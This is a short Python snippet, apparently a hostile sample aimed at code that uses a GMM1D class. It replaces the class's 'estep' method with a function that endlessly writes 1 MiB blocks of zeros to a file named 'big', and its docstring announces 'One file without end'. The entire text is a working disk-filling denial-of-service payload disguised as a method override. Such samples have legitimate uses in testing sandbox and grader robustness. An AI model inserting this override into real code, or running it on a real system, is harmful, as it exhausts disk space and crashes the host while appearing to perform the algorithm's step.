"""One file without end."""

def estep(self, X):
    with open("big", "wb") as file:
        while True:
            file.write(bytes(1 << 20))

GMM1D.estep = estep
